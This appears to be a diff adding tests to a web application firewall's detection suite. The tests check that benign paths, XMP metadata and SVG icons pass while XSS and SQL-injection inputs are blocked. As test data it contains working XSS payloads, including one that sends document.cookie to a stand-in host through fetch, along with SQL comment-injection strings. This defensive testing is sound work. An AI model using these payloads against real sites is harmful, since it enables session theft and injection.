@@ -4,6 +4,7 @@ must pass. (Issue 19: the held-out corpus showed these classes getting through.)
 
 from __future__ import annotations
 
+import base64
 import json
 from urllib.parse import quote
 
@@ -1469,3 +1470,145 @@ def test_snippets_and_prose_about_the_page_pass(engine: DetectionEngine, text: s
     for request in in_values(text):
         verdict = engine.evaluate(request)
         assert all(h.rule.id != 2027 for h in verdict.hits), (text, verdict.log_record())
+
+
+# ------------------------------------------ 34. a path of names is not script
+@pytest.mark.parametrize(
+    "target",
+    [
+        "/docs/javascript/reference/document.cookie",
+        "/wiki/Window.location",
+        "/api/v2/manual/dom/document.domain/examples",
+        "/kb/window.opener",
+    ],
+)
+def test_a_path_of_names_naming_the_pages_cookies_passes(engine: DetectionEngine, target: str) -> None:
+    """A manual's or a wiki's path that names a browser global's member, made of letters,
+    digits, ``-._~`` and slashes only, passes: it can open no tag, make no call and assign
+    nothing, so what it names is not script."""
+    verdict = engine.evaluate(make_request(target))
+    assert verdict.block_category is None, (target, verdict.log_record())
+
+
+@pytest.mark.parametrize(
+    "target",
+    [
+        "/docs/document.cookie=1",
+        "/docs/x'+document.cookie+'",
+        "/docs/%64ocument.cookie",
+        "/docs/document.cookie%3d1",
+        "/docs/<script>document.cookie",
+        "/docs/javascript:alert(document.cookie)",
+    ],
+)
+def test_a_path_with_code_characters_naming_the_cookies_is_blocked(engine: DetectionEngine, target: str) -> None:
+    """The same names in a path with anything else (an escape, a quote, ``=``, ``<``, ``:``)
+    keep every XSS rule and are refused."""
+    verdict = engine.evaluate(make_request(target))
+    assert verdict.block_category == "xss", (target, verdict.log_record())
+
+
+def test_a_path_segment_of_base64_script_is_still_blocked(engine: DetectionEngine) -> None:
+    """A segment made of name characters that is base64 of script (its decoded view holds
+    the tag and the call) keeps every XSS rule."""
+    segment = base64.urlsafe_b64encode(b"<svg onload=alert(document.domain)>").decode().rstrip("=")
+    verdict = engine.evaluate(make_request(f"/v1/files/{segment}"))
+    assert verdict.block_category == "xss", verdict.log_record()
+
+
+# ------------------------------------------ 35. XMP metadata is XML, not markup a browser runs
+#: An XMP packet as photo and PDF tools write one (our own: title, creator, rights).
+XMP_PACKET = (
+    '<?xpacket begin="\ufeff" id="W5M0MpCehiHzreSzNTczkc9d"?>'
+    '<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">'
+    '<rdf:Description rdf:about="" xmlns:dc="http://purl.org/dc/elements/1.1/">'
+    '<dc:title><rdf:Alt><rdf:li xml:lang="x-default">Harbour at dusk</rdf:li></rdf:Alt></dc:title>'
+    "<dc:creator><rdf:Seq><rdf:li>Aoife O'Brien</rdf:li></rdf:Seq></dc:creator>"
+    "</rdf:Description></rdf:RDF></x:xmpmeta>"
+    '<?xpacket end="w"?>'
+)
+
+
+def test_xmp_metadata_in_a_form_or_json_field_passes(engine: DetectionEngine) -> None:
+    """An image's or a PDF's XMP packet sent as a field (an asset API's metadata) passes:
+    its elements have namespace prefixes (``<x:xmpmeta>``), which no browser runs."""
+    requests = [
+        make_request(
+            "/v1/assets",
+            method="POST",
+            body="title=harbour&metadata=" + quote(XMP_PACKET, safe=""),
+            content_type="application/x-www-form-urlencoded",
+        ),
+        make_request(
+            "/v1/assets", method="POST", body=json.dumps({"metadata": XMP_PACKET}), content_type="application/json"
+        ),
+    ]
+    for request in requests:
+        verdict = engine.evaluate(request)
+        assert verdict.block_category is None, verdict.log_record()
+
+
+@pytest.mark.parametrize(
+    "payload", ["<x onclick=alert(1)>", "<a:b onmouseover=alert(1)>", "<x:script>alert(1)</x:script>"]
+)
+def test_prefixed_or_bare_x_elements_with_script_are_blocked(engine: DetectionEngine, payload: str) -> None:
+    """A namespaced or an ``<x>`` element that carries a handler or a script is refused."""
+    blocked_everywhere(engine, payload, "xss")
+
+
+# ------------------------------------------ 36. an SVG document is drawn, what runs in it is not
+@pytest.mark.parametrize(
+    "svg",
+    [
+        '<?xml version="1.0"?><svg></svg>',
+        '<?xml version="1.0" encoding="UTF-8"?><svg xmlns="http://www.w3.org/2000/svg" width="16" height="16">'
+        '<circle cx="8" cy="8" r="7" fill="#2a9d8f"/></svg>',
+        '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><title>Star</title><use href="#icon-star"/>'
+        '<path d="M12 2l3 7h7l-5.5 4.5L18 21l-6-4-6 4 1.5-7.5L2 9h7z" fill="currentColor"/></svg>',
+    ],
+)
+def test_an_svg_icon_in_a_form_or_json_field_passes(engine: DetectionEngine, svg: str) -> None:
+    """An SVG document sent as a field (an icon or a logo for an API that stores it), with
+    an XML prolog, shapes, colours and a ``<use href="#...">`` of its own symbol, passes."""
+    requests = [
+        make_request(
+            "/v1/icons",
+            method="POST",
+            body="name=star&image=" + quote(svg, safe=""),
+            content_type="application/x-www-form-urlencoded",
+        ),
+        make_request("/v1/icons", method="POST", body=json.dumps({"svg": svg}), content_type="application/json"),
+    ]
+    for request in requests:
+        verdict = engine.evaluate(request)
+        assert verdict.block_category is None, (svg, verdict.log_record())
+
+
+@pytest.mark.parametrize(
+    "payload",
+    [
+        "<svg onload=alert(1)>",
+        "<svg/onload=fetch(`//x.example?c=${document.cookie}`)>",
+        "<svg><script>alert(1)</script>",
+        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+        "<svg><a><animate attributeName=href values=javascript:alert(1) /><text>go</text></a>",
+        "<svg><set attributeName=onmouseover to=alert(1)>",
+        "<svg><foreignObject><iframe src=javascript:alert(1)>",
+        '<svg><use href="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+#x"/></svg>',
+        '<svg><use xlink:href="data:image/svg+xml,<svg id=x><a>x</a></svg>#x"/></svg>',
+    ],
+)
+def test_what_runs_in_an_svg_is_blocked(engine: DetectionEngine, payload: str) -> None:
+    """An SVG with a handler, a script, an animation that sets a javascript: link or a
+    handler, embedded HTML, or a ``<use>`` of a document in a data: URL is refused
+    wherever it is placed."""
+    blocked_everywhere(engine, payload, "xss")
+
+
+@pytest.mark.parametrize("payload", ["admin'#", 'admin"#', "1';--", "x'/*", "a=b'--"])
+def test_a_string_break_then_a_comment_is_still_blocked(engine: DetectionEngine, payload: str) -> None:
+    """A quote that closes a string, then a comment or a statement's end, is refused: only
+    a quote right after ``=`` (an attribute's value opening) no longer counts (rule 1014)."""
+    for request in in_values(payload):
+        verdict = engine.evaluate(request)
+        assert verdict.block_category == "sqli", (payload, verdict.log_record())
